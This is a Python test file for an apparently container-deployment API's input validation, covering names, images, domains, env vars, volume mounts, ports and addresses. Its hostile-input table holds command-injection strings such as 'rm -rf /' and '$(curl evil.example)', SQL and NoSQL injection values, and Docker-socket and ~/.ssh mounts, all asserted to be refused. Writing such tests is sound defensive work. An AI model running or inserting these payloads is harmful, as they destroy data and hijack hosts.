"""The validation rules of SPEC.md, as properties and as a table of hostile inputs."""

from __future__ import annotations

import base64
import posixpath
import re
import time
from typing import Any
from uuid import UUID

import asyncssh  # real keys, to know what a real host key looks like
import hypothesis.strategies as st
import msgspec
import pytest
import strategies as s
from berth.core import types
from berth.core.commands import DEFAULT_PORT
from berth.core.commands import parse_create_server as core_parse_create_server
from berth.core.commands import parse_deploy as core_parse_deploy
from berth.core.errors import InvalidInput
from berth.core.types import (
    AppName,
    Domain,
    EnvKey,
    EnvValue,
    ImageRef,
    Port,
    RuleError,
    Volume,
    check_address,
    check_domain,
    check_email,
    check_env_key,
    check_env_value,
    check_idempotency_key,
    check_image,
    check_name,
    check_port,
    check_server_name,
    check_uuid,
    check_volume,
    guarded_host_path,
    sanitize_container_name,
)
from berth.entrypoints.http.schemas import CreateServerRequest, DeployRequest
from berth.entrypoints.http.wire import parse_body
from hypothesis import example, given


def _wire(struct: Any, parse: Any) -> Any:
    """The core's ``parse`` as the API applies it to a JSON body (camelCase, ``body.``)."""

    def parse_wire(raw: object, **options: Any) -> Any:
        return parse_body(raw, struct, lambda body: parse(body, **options))

    return parse_wire


# The rules as the API applies them: the wire body in, ``body.<wireName>`` locations out.
parse_deploy = _wire(DeployRequest, core_parse_deploy)
parse_create_server = _wire(CreateServerRequest, core_parse_create_server)

DOCKER_NAME = re.compile(r"[a-zA-Z0-9][a-zA-Z0-9_.-]+")
OUR_NAME = re.compile(r"[a-z0-9](?:[a-z0-9_.-]*[a-z0-9])?")


def refuses(check: Any, value: object) -> bool:
    try:
        check(value)
    except RuleError:
        return True
    return False


def converts(value: object, alias: Any) -> bool:
    try:
        msgspec.convert(value, alias, strict=True)
    except msgspec.ValidationError:
        return False
    return True


def errors_of(raw: object) -> list[tuple[str, str]]:
    with pytest.raises(InvalidInput) as info:
        parse_deploy(raw)
    return [(e.location, e.message) for e in info.value.errors]


def valid_body(**over: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "serverId": "123e4567-e89b-12d3-a456-426614174000",
        "name": "my-app",
        "image": "nginx:1.27",
    }
    body.update(over)
    return body


class TestContainerNames:
    @given(st.text(max_size=120))
    @example("İstanbul")
    @example("\u212aelvin")  # KELVIN SIGN lowercases to ASCII k
    @example("a--__..--b")
    @example("--a--")
    def test_sanitize_yields_docker_name_or_refuses(self, name: str) -> None:
        """Sanitizing yields a valid, tidy Docker name or raises RuleError."""
        try:
            out = sanitize_container_name(name)
        except RuleError:
            return
        assert DOCKER_NAME.fullmatch(out)
        assert OUR_NAME.fullmatch(out)
        assert "--" not in out
        assert out[0] not in "-._"
        assert out[-1] not in "-._"

    @given(s.app_names())
    def test_sanitize_is_idempotent(self, name: str) -> None:
        """Sanitizing a sanitized name changes nothing."""
        once = sanitize_container_name(name)
        assert sanitize_container_name(once) == once

    @given(s.app_names())
    def test_valid_names_are_accepted_as_given(self, name: str) -> None:
        """A valid app name is kept exactly as given; only the container name is derived."""
        assert check_name(name) == name

    @given(s.bad_app_names)
    def test_bad_names_are_refused(self, name: object) -> None:
        """Empty, too long, NUL, non-string, or nothing left after sanitizing: refused."""
        assert refuses(check_name, name)

    @pytest.mark.parametrize(
        ("name", "container"),
        [
            ("My App", "my-app"),
            ("  My   App!! ", "my-app"),
            ("web_1.prod", "web_1.prod"),
            ("--Web--", "web"),
            ("a/b\\c", "a-b-c"),
            ("Ünïcödé app", "n-c-d-app"),
            ("$(reboot)x", "reboot-x"),
        ],
    )
    def test_known_sanitizations(self, name: str, container: str) -> None:
        """Examples from SPEC.md's rule give the expected container names."""
        assert sanitize_container_name(name) == container

    def test_name_length_is_in_characters(self) -> None:
        """The 1-100 limit counts characters, so 100 multi-byte characters are fine."""
        name = "ab" + "é" * 98
        assert check_name(name) == name
        assert refuses(check_name, name + "é")


class TestImages:
    @given(s.images())
    @example("nginx:1.27")
    @example("localhost:5000/team/app:v1@sha256:" + "a" * 64)
    @example("ghcr.io/org/app__x--y:2.1")
    def test_accepted_images_round_trip(self, image: str) -> None:
        """A valid image reference is returned unchanged."""
        assert check_image(image) == image

    @given(s.half(s.images(), st.one_of(st.text(max_size=80), s.bad_images)))
    def test_accepted_images_always_have_a_tag(self, image: object) -> None:
        """Whatever is accepted carries an explicit tag; there is no implicit latest."""
        if refuses(check_image, image):
            return
        assert isinstance(image, str)
        name = image.split("@", 1)[0]
        assert ":" in name.rsplit("/", 1)[-1]
        assert not name.endswith(":")

    @given(s.bad_images)
    def test_bad_images_are_refused(self, image: object) -> None:
        """No tag, uppercase path, whitespace, shell characters, non-strings: refused."""
        assert refuses(check_image, image)

    def test_missing_tag_message_says_so(self) -> None:
        """A tag-less image gets a message that asks for a tag."""
        with pytest.raises(RuleError, match="tag is required"):
            check_image("ghcr.io/org/app")

    @pytest.mark.parametrize(
        "image",
        ["a" * 511 + "!", "a-" * 255 + "!", "a." * 200 + "a:" + "b" * 100 + "!", "a.a/" * 127],
    )
    def test_long_hostile_images_are_refused_quickly(self, image: str) -> None:
        """Near-limit adversarial strings do not make the regex backtrack for long."""
        start = time.perf_counter()
        assert refuses(check_image, image)
        assert time.perf_counter() - start < 0.05


class TestDomains:
    @given(s.domains)
    def test_domains_are_lowercased_and_obey_label_rules(self, domain: str) -> None:
        """A valid domain comes back lowercased with 2+ labels of 1-63 [a-z0-9-]."""
        out = check_domain(domain)
        assert out == domain.lower()
        labels = out.split(".")
        assert len(labels) >= 2
        assert len(out) <= 253
        for label in labels:
            assert 1 <= len(label) <= 63
            assert re.fullmatch(r"[a-z0-9-]+", label)
            assert not label.startswith("-")
            assert not label.endswith("-")

    @given(s.bad_domains)
    def test_bad_domains_are_refused(self, domain: object) -> None:
        """One label, empty or 64-character labels, edge dashes, >253, Unicode: refused."""
        assert refuses(check_domain, domain)

    def test_253_characters_is_the_limit(self) -> None:
        """A 253-character domain is accepted, 254 is not."""
        ok = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 61])
        assert len(ok) == 253
        assert check_domain(ok) == ok
        assert refuses(check_domain, ok + "d")


def domain_error(value: str) -> str:
    with pytest.raises(RuleError) as refused:
        check_domain(value)
    return str(refused.value)


class TestNamePatterns:
    """The document's name patterns say exactly what the checks accept (schemathesis
    sends what a pattern admits and expects it accepted, and the reverse)."""

    @given(st.text(max_size=12) | st.from_regex(types.APP_NAME_PATTERN, fullmatch=True))
    @example("İK")
    @example("a\u212a")
    @example("._a_.")
    @example("a b")
    def test_app_name_pattern_is_the_rule(self, name: str) -> None:
        """A name matches ``APP_NAME_PATTERN`` iff ``check_name`` accepts it (up to 100)."""
        if len(name) > 100:
            return
        matches = re.fullmatch(types.APP_NAME_PATTERN, name) is not None
        assert matches == (not refuses(check_name, name)), name

    @given(st.text(max_size=12) | st.from_regex(types.SERVER_NAME_PATTERN, fullmatch=True))
    @example(" \t ")
    @example("web\x85")
    def test_server_name_pattern_is_the_rule(self, name: str) -> None:
        """A server name matches ``SERVER_NAME_PATTERN`` iff ``check_server_name`` accepts it."""
        if not 1 <= len(name) <= 100:
            return
        matches = re.fullmatch(types.SERVER_NAME_PATTERN, name) is not None
        assert matches == (not refuses(types.check_server_name, name)), name


class TestDomainFixes:
    """A refused domain says exactly what to change (issue 12)."""

    @given(s.domains, st.sampled_from(["http://", "https://", "HTTPS://", "ftp://"]))
    def test_a_scheme_is_named_and_dropped(self, domain: str, scheme: str) -> None:
        """``https://<domain>``: use the domain, drop the scheme."""
        message = domain_error(scheme + domain)
        assert message.startswith(f"Use `{domain.lower()}`:"), message
        assert f"drop the scheme `{scheme}`" in message

    @given(s.domains)
    def test_a_trailing_dot_is_named(self, domain: str) -> None:
        """``<domain>.`` (a fully qualified name): drop the trailing dot."""
        message = domain_error(domain + ".")
        assert message == f"Use `{domain.lower()}`: drop the trailing dot.", message

    @given(s.domains, st.integers(min_value=0, max_value=99999))
    def test_a_port_is_named(self, domain: str, port: int) -> None:
        """``<domain>:<port>``: drop that port (the app's port is ``port``)."""
        message = domain_error(f"{domain}:{port}")
        assert message.startswith(f"Use `{domain.lower()}`: drop the port `:{port}`"), message

    @given(s.domains, st.from_regex(r"/[a-z0-9/]{0,20}", fullmatch=True))
    def test_a_url_is_taken_apart(self, domain: str, path: str) -> None:
        """A whole URL: its host is the domain; scheme, port and path are named."""
        message = domain_error(f"https://{domain}:8443{path}")
        assert message.startswith(f"Use `{domain.lower()}`:"), message
        for part in ("`https://`", f"`{path}`", "`:8443`"):
            assert part in message

    def test_unicode_names_get_their_punycode(self) -> None:
        """``bücher.example`` → use ``xn--bcher-kva.example``."""
        message = domain_error("bücher.example")
        assert message.startswith("Use `xn--bcher-kva.example`:"), message
        assert "punycode" in message

    @given(s.domains, st.sampled_from(["ü", "é", "ñ", "ø", "日本"]))
    def test_any_unicode_label_gets_a_punycode_suggestion(self, domain: str, extra: str) -> None:
        """A non-ASCII label: the suggested name is the IDNA form, and it is accepted."""
        message = domain_error(extra + domain)
        assert "punycode" in message
        assert message.startswith("Use `xn--"), message

    @given(st.text(max_size=60))
    @example("https://bücher.example:443/path")
    @example("*.example.com")
    def test_every_suggestion_is_accepted(self, value: str) -> None:
        """Whenever the message says "Use `X`", X is a domain berth accepts."""
        if not refuses(check_domain, value):
            return
        message = domain_error(value)
        match = re.match(r"^Use `([^`]*)`:", message)
        if match:
            assert check_domain(match[1]) == match[1]


class TestEnv:
    @given(s.env_keys)
    def test_valid_keys_are_accepted(self, key: str) -> None:
        """Keys matching ^[A-Za-z_][A-Za-z0-9_]*$ up to 256 characters are accepted."""
        assert check_env_key(key) == key

    @given(s.bad_env_keys)
    def test_bad_keys_are_refused(self, key: str) -> None:
        """Empty keys, leading digits, other characters and 257+ characters are refused."""
        assert refuses(check_env_key, key)

    @given(s.env_values)
    @example("$(rm -rf /)")
    @example('it\'s "quoted" `cmd` ${VAR} $VAR \\n\n\r\n\t')
    @example("é🚀\u202e\u200b")
    def test_values_round_trip_byte_for_byte(self, value: str) -> None:
        """Any value without NUL up to 32 KiB comes back identical, byte for byte."""
        out = check_env_value(value)
        assert out.encode("utf-8") == value.encode("utf-8")

    @given(s.env_values, s.env_values)
    def test_nul_is_refused(self, before: str, after: str) -> None:
        """A NUL anywhere in a value is refused."""
        assert refuses(check_env_value, before + "\x00" + after)

    @pytest.mark.parametrize("value", ["x" * (32 * 1024 + 1), "é" * (16 * 1024) + "x", "🚀" * 8193])
    def test_oversize_is_refused(self, value: str) -> None:
        """More than 32 KiB of UTF-8 is refused, counted in bytes, not characters."""
        assert refuses(check_env_value, value)

    def test_lone_surrogate_is_refused(self) -> None:
        """A string that is not valid Unicode is refused, not crashed on."""
        assert refuses(check_env_value, "a\ud800b")

    def test_non_string_key_is_refused(self) -> None:
        """A library caller passing a non-string key gets a RuleError, not a TypeError."""
        assert refuses(check_env_key, 1)


class TestVolumes:
    @given(s.volumes())
    def test_accepted_volumes_are_safe(self, volume: str) -> None:
        """An accepted volume has no `..` segment, an absolute container path and no socket."""
        spec = check_volume(volume)
        for path in (spec.host_path, spec.container_path):
            assert ".." not in path.split("/")
        assert spec.container_path.startswith("/")
        assert spec.container_path != "/"
        assert spec.host_path not in ("/", "/var/run/docker.sock", "/run/docker.sock")
        if not spec.is_relative:
            assert guarded_host_path(spec.host_path, types.REFUSED_HOST_PATHS) is None
        assert spec.read_only == volume.endswith(":ro")
        assert spec.is_relative == (not volume.startswith("/"))

    @pytest.mark.parametrize("host", [*s.DOCKER_SOCKET_SPELLINGS, "/", "//", "/.", "/./", "///"])
    @pytest.mark.parametrize("mode", ["", ":ro", ":rw"])
    def test_root_and_docker_socket_are_refused_in_any_spelling(self, host: str, mode: str) -> None:
        """`/`, the Docker socket and every directory holding it are refused, however spelt."""
        assert refuses(check_volume, f"{host}:/mnt{mode}")

    @given(
        st.sampled_from(s.SYSTEM_PATHS),
        st.lists(st.sampled_from(["ssh", "x", "1", "docker.sock", "a.b", "-", "@"]), max_size=3),
        st.data(),
    )
    def test_system_paths_and_what_lies_under_them_are_refused(
        self, root: str, below: list[str], data: st.DataObject
    ) -> None:
        """`/proc`, `/sys`, `/dev`, `/boot`, `/etc`, `/run`, `/var/run`, `/var/lib/docker`,
        `/var/lib/containerd` and anything under them are refused, however spelt, saying
        which and why."""
        path = "/".join([root, *below])
        spelt = data.draw(s.host_path_spellings(path))
        with pytest.raises(RuleError) as refused:
            check_volume(f"{spelt}:/mnt")
        assert f"`{root}`" in str(refused.value) or f"`{path}`" in str(refused.value)

    @pytest.mark.parametrize("host", ["/var", "/var/lib", "//var/./lib/", "/var/lib/."])
    def test_a_directory_holding_a_system_path_is_refused(self, host: str) -> None:
        """`/var` and `/var/lib` hold Docker's state: refused, naming what they hold."""
        with pytest.raises(RuleError, match="holds `/var/"):
            check_volume(f"{host}:/mnt")

    @given(st.sampled_from(s.SOCKET_PATHS), st.data())
    def test_docker_and_containerd_sockets_are_refused_anywhere(
        self, path: str, data: st.DataObject
    ) -> None:
        """A Docker or containerd socket is refused in any directory (rootless, Desktop)."""
        assert refuses(check_volume, f"{data.draw(s.host_path_spellings(path))}:/s")

    @pytest.mark.parametrize(
        "host",
        [
            "/srv/app",
            "/opt/app/data",
            "/home/ada/site",
            "/var/lib/berth/x",
            "/var/log/app",
            "/etcetera",
            "/running",
            "/devices",
            "/var/lib/dockerfile",
            "/var/runner",
            "/sys2",
        ],
    )
    def test_ordinary_paths_stay_allowed(self, host: str) -> None:
        """Paths of one's own, including ones whose names merely start like a refused one."""
        assert check_volume(f"{host}:/data").host_path == host

    @given(s.absolute_paths, s.absolute_paths, st.integers(-3, 3))
    def test_a_guarded_path_refuses_itself_what_lies_under_it_and_what_holds_it(
        self, guarded: str, other: str, relation: int
    ) -> None:
        """``guarded_host_path`` refuses exactly the path, what lies under it and the
        directories that hold it (compared segment by segment, not as text)."""
        g = guarded.split("/")
        if relation < 0:  # a directory holding it (``/`` itself when the cut is whole)
            host = "/".join(g[: max(1, len(g) + relation)]) or "/"
        elif relation > 0:  # something under it
            host = posixpath.normpath(guarded + other[: relation * 3])
        else:  # a path of its own, possibly sharing a prefix of characters
            host = other
        h = host.split("/") if host != "/" else [""]
        related = g[: len(h)] == h[: len(g)]
        reason = guarded_host_path(host, [(guarded, "berth's own data")])
        assert (reason is not None) == related
        if reason is not None:
            assert f"`{host}`" in reason
            assert "berth's own data" in reason

    @given(s.bad_volumes)
    def test_bad_volumes_are_refused(self, volume: object) -> None:
        """`..`, relative container paths, bad modes, odd characters, non-strings: refused."""
        assert refuses(check_volume, volume)

    @pytest.mark.parametrize(
        "volume",
        ["data:/data", "./data:/data:ro", "/srv/app:/app:rw", "/var/lib/x@1+2:/x", "/opt/u:/u"],
    )
    def test_examples_are_accepted(self, volume: str) -> None:
        """Ordinary relative and absolute bind mounts are accepted."""
        check_volume(volume)


class TestPortsAndIds:
    @given(s.ports)
    def test_ports_in_range_are_accepted(self, port: int) -> None:
        """Every integer 1-65535 is a port."""
        assert check_port(port) == port

    @given(s.bad_ports)
    def test_bad_ports_are_refused(self, port: object) -> None:
        """Out of range, booleans, floats (even 80.0), strings and null are refused."""
        assert refuses(check_port, port)

    @given(s.uuid_texts)
    def test_uuids_parse_in_any_case(self, text: str) -> None:
        """A canonical UUID in either case parses to the same UUID."""
        assert check_uuid(text) == UUID(text)

    @pytest.mark.parametrize(
        "text",
        [
            "123e4567e89b12d3a456426614174000",
            "{123e4567-e89b-12d3-a456-426614174000}",
            "urn:uuid:123e4567-e89b-12d3-a456-426614174000",
            "123e4567-e89b-12d3-a456-426614174000\n",
            " 123e4567-e89b-12d3-a456-426614174000",
            "123e4567-e89b-12d3-a456-42661417400g",
            "",
        ],
    )
    def test_non_canonical_uuids_are_refused(self, text: str) -> None:
        """Only the canonical 36-character form is accepted, and never with a crash."""
        assert refuses(check_uuid, text)


class TestAliasesAgreeWithChecks:
    """The msgspec.Meta aliases (what OpenAPI shows) never refuse what a check accepts."""

    @given(s.half(s.images(), st.one_of(s.bad_images, st.text(max_size=40))))
    def test_image(self, value: object) -> None:
        """check_image accepts → msgspec accepts ImageRef."""
        if refuses(check_image, value):
            return
        assert converts(value, ImageRef)

    @given(s.half(s.domains, st.one_of(s.bad_domains, st.text(max_size=40))))
    def test_domain_in_both_cases(self, value: object) -> None:
        """check_domain accepts → msgspec accepts both the input and the lowercased output."""
        if refuses(check_domain, value):
            return
        assert converts(value, Domain)
        assert converts(check_domain(value), Domain)

    @given(s.half(s.env_keys, st.one_of(s.bad_env_keys, st.text(max_size=10))))
    def test_env_key(self, value: str) -> None:
        """check_env_key accepts → msgspec accepts EnvKey."""
        if refuses(check_env_key, value):
            return
        assert converts(value, EnvKey)

    @given(
        s.half(
            s.env_values,
            st.one_of(st.text(max_size=20), st.just("a\x00b"), st.just("é" * 16385)),
        )
    )
    @example("x" * types.ENV_VALUE_MAX_BYTES)
    @example("line\n")
    def test_env_value(self, value: str) -> None:
        """check_env_value accepts → msgspec accepts EnvValue (its length counts characters,
        of which 32 KiB of UTF-8 has at most as many as bytes)."""
        if refuses(check_env_value, value):
            return
        assert converts(value, EnvValue)

    def test_env_value_alias_refuses_nul_and_length(self) -> None:
        """What EnvValue says (and OpenAPI shows) is a real limit: NUL, 32,769 characters."""
        assert not converts("a\x00b", EnvValue)
        assert not converts("x" * (types.ENV_VALUE_MAX_BYTES + 1), EnvValue)

    @given(s.half(s.ports, st.one_of(s.bad_ports, s.non_strings)))
    def test_port_both_ways(self, value: object) -> None:
        """check_port and msgspec's strict Port agree in both directions."""
        assert (not refuses(check_port, value)) == converts(value, Port)

    @given(s.half(s.volumes(), s.bad_volumes))
    def test_volume(self, value: object) -> None:
        """check_volume accepts → msgspec accepts Volume."""
        if refuses(check_volume, value):
            return
        assert converts(value, Volume)

    @given(s.half(s.app_names(), s.bad_app_names))
    def test_app_name(self, value: object) -> None:
        """check_name accepts → msgspec accepts AppName."""
        if refuses(check_name, value):
            return
        assert converts(value, AppName)

    @pytest.mark.parametrize(
        ("check", "alias", "value"),
        [
            (check_image, ImageRef, "nginx:1.27\n"),
            (check_domain, Domain, "example.com\n"),
            (check_env_key, EnvKey, "KEY\n"),
        ],
    )
    def test_checks_are_stricter_than_dollar_anchors(
        self, check: Any, alias: Any, value: str
    ) -> None:
        """A trailing newline slips past a `$`-anchored Meta pattern but not past the check."""
        assert converts(value, alias)  # msgspec: re.search with `$`
        assert refuses(check, value)


BAD_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "serverId": st.one_of(st.text(max_size=10), s.non_strings),
    "name": s.bad_app_names,
    "image": s.bad_images,
    # The wire reads a whole-number float (8080.0) as the integer it is (wire._whole).
    "port": s.bad_ports.filter(
        lambda v: not (isinstance(v, float) and v.is_integer() and 1 <= v <= 65535)
    ),
    "domain": s.bad_domains.filter(lambda v: v is not None),
    "env": st.one_of(
        s.non_strings.filter(lambda v: v is not None and not isinstance(v, dict)),
        st.builds(lambda k: {k: "v"}, s.bad_env_keys),
        st.builds(lambda k: {k: "a\x00b"}, s.env_keys),
        st.builds(lambda k, v: {k: v}, s.env_keys, s.non_strings.filter(lambda v: v is not None)),
    ),
    "volumes": st.one_of(
        s.non_strings.filter(lambda v: v is not None and not isinstance(v, list)),
        st.builds(lambda v: [v], s.bad_volumes),
        st.builds(lambda v: [v, v], s.volumes()),  # same container path twice
    ),
}


class TestParseDeploy:
    @given(s.deploy_bodies())
    def test_valid_bodies_parse(self, body: dict[str, Any]) -> None:
        """A valid body becomes a command that keeps every value exactly."""
        cmd = parse_deploy(body, idempotency_key="k1")
        assert cmd.server_id == UUID(body["serverId"])
        assert cmd.name == body["name"]
        assert cmd.container_name == sanitize_container_name(body["name"])
        assert cmd.image == body["image"]
        assert cmd.port == body.get("port", DEFAULT_PORT)
        domain = body.get("domain")
        assert cmd.domain == (domain.lower() if domain else None)
        assert cmd.env == (body.get("env") or {})
        assert cmd.volumes == tuple(body.get("volumes") or ())
        assert cmd.idempotency_key == "k1"

    @given(s.deploy_bodies(), st.data())
    def test_every_bad_field_is_reported_at_once(
        self, body: dict[str, Any], data: st.DataObject
    ) -> None:
        """A body with k independent bad fields yields exactly k errors, one per field."""
        broken = data.draw(st.sets(st.sampled_from(sorted(BAD_FIELDS)), min_size=1))
        for field in broken:
            body[field] = data.draw(BAD_FIELDS[field], label=field)
        locations = [loc for loc, _ in errors_of(body)]
        assert len(locations) == len(broken)
        fields = {re.split(r"[.\[]", loc.removeprefix("body."), maxsplit=1)[0] for loc in locations}
        assert fields == broken
        assert all(loc.startswith("body.") for loc in locations)

    @given(s.deploy_bodies(), st.sets(st.sampled_from(["serverId", "name", "image"]), min_size=1))
    def test_missing_required_fields_are_each_reported(
        self, body: dict[str, Any], missing: set[str]
    ) -> None:
        """Every missing required field gets its own error."""
        for field in missing:
            del body[field]
        assert {loc for loc, _ in errors_of(body)} == {f"body.{f}" for f in missing}

    @given(
        s.deploy_bodies(),
        st.dictionaries(
            st.text(min_size=1, max_size=10).filter(
                lambda k: k not in valid_body(port=1, domain=1, env=1, volumes=1)
            ),
            s.non_strings,
            min_size=1,
            max_size=3,
        ),
    )
    def test_unknown_fields_are_reported(self, body: dict[str, Any], extra: dict[str, Any]) -> None:
        """Each unknown field is an error of its own, located by its name."""
        body.update(extra)
        assert {loc for loc, _ in errors_of(body)} == {f"body.{k}" for k in extra}

    @pytest.mark.parametrize("raw", [None, [], [{}], "body", 42, 1.5, True, b"{}"])
    def test_non_object_body_is_one_error(self, raw: object) -> None:
        """A body that is not an object is reported once, at `body`."""
        assert [loc for loc, _ in errors_of(raw)] == ["body"]

    @pytest.mark.parametrize("port", ["80", True, False, 80.5, 0, 65536, -1, None, [80]])
    def test_wrong_port_types_are_refused(self, port: object) -> None:
        """A port must be a JSON integer; strings, booleans and fractions are refused."""
        assert [loc for loc, _ in errors_of(valid_body(port=port))] == ["body.port"]

    def test_a_whole_float_is_an_integer(self) -> None:
        """``80.0`` is an integer to JSON Schema, so to the API too: port 80."""
        assert type(parse_deploy(valid_body(port=80.0)).port) is int
        assert parse_deploy(valid_body(port=80.0)).port == 80

    def test_env_errors_name_the_key(self) -> None:
        """Env errors point at the offending key, and every one is listed."""
        env = {"OK": "1", "1BAD": "x", "NUL": "a\x00", "LIST": ["x"], "ALSO_OK": "$(id)"}
        locs = sorted(loc for loc, _ in errors_of(valid_body(env=env)))
        assert locs == ["body.env.1BAD", "body.env.LIST", "body.env.NUL"]

    def test_volume_errors_name_the_index(self) -> None:
        """Volume errors point at the offending index, and every one is listed."""
        vols = ["data:/data", "/:/host", "x:/data", "/var/run/docker.sock:/s", 7]
        locs = [loc for loc, _ in errors_of(valid_body(volumes=vols))]
        assert locs == ["body.volumes[1]", "body.volumes[2]", "body.volumes[3]", "body.volumes[4]"]

    def test_too_many_env_keys_and_volumes(self) -> None:
        """More than 200 env keys or 100 volumes is refused."""
        env = {f"K{i}": "v" for i in range(types.ENV_MAX_KEYS + 1)}
        vols = [f"d{i}:/d{i}" for i in range(types.VOLUMES_MAX + 1)]
        locs = sorted(loc for loc, _ in errors_of(valid_body(env=env, volumes=vols)))
        assert locs == ["body.env", "body.volumes"]

    def test_null_optionals_mean_absent(self) -> None:
        """`null` for domain, env and volumes means the default."""
        cmd = parse_deploy(valid_body(domain=None, env=None, volumes=None))
        assert (cmd.domain, cmd.env, cmd.volumes, cmd.port) == (None, {}, (), DEFAULT_PORT)

    def test_echoed_values_are_short_and_json_safe(self) -> None:
        """Errors echo at most ~200 characters and never objects, bytes or huge ints."""
        body = {
            "serverId": 2**80,
            "name": "x" * 5000,
            "image": {"nested": "object"},
            "port": b"80",
        }
        errors = {e.location: e.value for e in _invalid(body).errors}
        assert errors["body.serverId"] is None
        assert isinstance(errors["body.name"], str)
        assert len(errors["body.name"]) <= 201
        assert errors["body.image"] is None
        assert errors["body.port"] is None
        msgspec.json.encode([e.value for e in _invalid(body).errors])

    @given(
        st.one_of(
            st.text(max_size=30),
            s.non_strings,
            st.lists(st.text(max_size=10), max_size=3),
            st.dictionaries(
                st.one_of(s.env_keys, s.bad_env_keys),
                st.one_of(s.env_values, s.non_strings, st.just("a\x00b")),
                max_size=4,
            ),
            st.dictionaries(st.text(max_size=5), st.just("v"), min_size=types.ENV_MAX_KEYS + 1),
        )
    )
    def test_env_errors_never_echo_a_value(self, env: object) -> None:
        """No error at ``body.env`` or under it carries a value: a string where the object
        belongs may be ``KEY=secret``, and a key's location names it already."""
        try:
            parse_deploy(valid_body(env=env))
        except InvalidInput as exc:
            for error in exc.errors:
                assert error.location == "body.env" or error.location.startswith("body.env.")
                assert error.value is None, error

    @pytest.mark.parametrize("value", ["SECRET=hunter2", {"SECRET": "hunter2"}, 5, ["x"]])
    def test_unknown_fields_never_echo_a_value(self, value: object) -> None:
        """An unknown field (a misspelt ``Env``, say) is named, its value never echoed."""
        (error,) = _invalid(valid_body(Env=value)).errors
        assert (error.location, error.message, error.value) == ("body.Env", "Unknown field.", None)


def _invalid(raw: object) -> InvalidInput:
    with pytest.raises(InvalidInput) as info:
        parse_deploy(raw)
    return info.value


HOSTILE: list[tuple[str, object]] = [
    ("name", "a\x00b"),
    ("name", "\u200b\u200b"),
    ("name", "x" * 101),
    ("name", {"$ne": ""}),
    ("name", ["web"]),
    ("image", "nginx:1.27; rm -rf /"),
    ("image", "nginx:1.27\nFROM evil"),
    ("image", "$(curl evil.example)"),
    ("image", "`id`:latest"),
    ("image", "\uff4e\uff47\uff49\uff4e\uff58:1"),
    ("image", "nginx"),
    ("image", "nginx:1.27 "),
    ("image", "x" * 100_000),
    ("image", {"repository": "nginx", "tag": "1"}),
    ("domain", "ex\u0430mple.com"),
    ("domain", "example.com\n"),
    ("domain", "example.com; rm -rf /"),
    ("domain", "a.b\u2028c"),
    ("domain", "*.example.com"),
    ("domain", "example.com/../../"),
    ("domain", ["example.com"]),
    ("port", "80; rm -rf /"),
    ("port", {"value": 80}),
    ("port", 10**40),
    ("serverId", "123e4567-e89b-12d3-a456-426614174000\n"),
    ("serverId", "' OR 1=1 --"),
    ("serverId", {"$gt": ""}),
    ("env", {"A;B": "x"}),
    ("env", {"PATH\n": "x"}),
    ("env", {"A": {"nested": "object"}}),
    ("env", {"A": "x" * 40_000}),
    ("env", [["A", "x"]]),
    ("env", "A=1"),
    ("volumes", ["/data\n:/x"]),
    ("volumes", ["/data:/x\n"]),
    ("volumes", ["/data:/x;id"]),
    ("volumes", ["$(pwd):/x"]),
    ("volumes", ["~/.ssh:/x"]),
    ("volumes", ["/data:/x:z"]),
    ("volumes", ["//var/run/docker.sock:/var/run/docker.sock"]),
    ("volumes", ["/var/run/../run/docker.sock:/s"]),
    ("volumes", [["/a", "/b"]]),
    ("volumes", "/a:/b"),
    ("volumes", ["/\u0430:/b"]),
]


class TestHostileInputs:
    @pytest.mark.parametrize(
        ("field", "value"), HOSTILE, ids=[f"{f}-{i}" for i, (f, _) in enumerate(HOSTILE)]
    )
    def test_hostile_value_is_one_error_at_its_field(self, field: str, value: object) -> None:
        """A hostile value is refused with exactly one error located at its field."""
        locs = [loc for loc, _ in errors_of(valid_body(**{field: value}))]
        assert len(locs) == 1
        assert locs[0] == f"body.{field}" or locs[0].startswith(
            (f"body.{field}.", f"body.{field}[")
        )

    @pytest.mark.parametrize("value", s.HOSTILE_STRINGS)
    def test_hostile_env_values_are_kept_verbatim(self, value: str) -> None:
        """Env values are data, not shell: hostile text is accepted and kept as is."""
        assert parse_deploy(valid_body(env={"V": value})).env == {"V": value}


class TestOtherChecks:
    @pytest.mark.parametrize(
        "address", ["fe80::1%$(reboot)", "fe80::1%eth0;id", "a..b", "-a.com", "a b", "", "x" * 254]
    )
    def test_bad_addresses_are_refused(self, address: str) -> None:
        """Addresses are hostnames or IPs; an IPv6 zone is an interface name, not a command."""
        assert refuses(check_address, address)

    @pytest.mark.parametrize(
        ("address", "out"),
        [
            ("203.0.113.7", "203.0.113.7"),
            ("2001:DB8::1", "2001:db8::1"),
            ("Host.Example", "host.example"),
            ("fe80::1%eth0", "fe80::1%eth0"),
        ],
    )
    def test_good_addresses_are_normalized(self, address: str, out: str) -> None:
        """IPs are canonicalized and hostnames lowercased."""
        assert check_address(address) == out

    def test_create_server_reports_every_field(self) -> None:
        """parse_create_server lists every bad field at once, unknown ones included."""
        with pytest.raises(InvalidInput) as info:
            parse_create_server({"name": "", "address": "a b", "sshPort": "22", "x": 1})
        locs = sorted(e.location for e in info.value.errors)
        assert locs == ["body.address", "body.name", "body.sshPort", "body.x"]

    @pytest.mark.parametrize("name", ["   ", "a\nb", "a\x7fb", "a\x85b", "x" * 101])
    def test_bad_server_names_are_refused(self, name: str) -> None:
        """Server names are 1-100 characters, not blank, without control characters."""
        assert refuses(check_server_name, name)

    @pytest.mark.parametrize(
        "email", ["a", "a@b", "a@@b.c", "a b@c.d", "a@b.c\x00", "x" * 250 + "@b.co"]
    )
    def test_bad_emails_are_refused(self, email: str) -> None:
        """Malformed email addresses are refused."""
        assert refuses(check_email, email)

    @pytest.mark.parametrize("key", ["", "a b", "é", "x" * 256, "a\nb"])
    def test_bad_idempotency_keys_are_refused(self, key: str) -> None:
        """Idempotency keys are 1-255 printable ASCII characters without spaces."""
        assert refuses(check_idempotency_key, key)


def _real_host_key(algorithm: str) -> str:
    key = asyncssh.generate_private_key(algorithm)
    line: str = key.export_public_key().decode().strip()
    return line


_HOST_KEY_ALGORITHMS = [
    "ssh-ed25519",
    "ecdsa-sha2-nistp256",
    "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521",
    "ssh-rsa",
]
_REAL_HOST_KEYS = {algorithm: _real_host_key(algorithm) for algorithm in _HOST_KEY_ALGORITHMS}


def _reencode(line: str, edit: Any) -> str:
    algorithm, encoded = line.split()[:2]
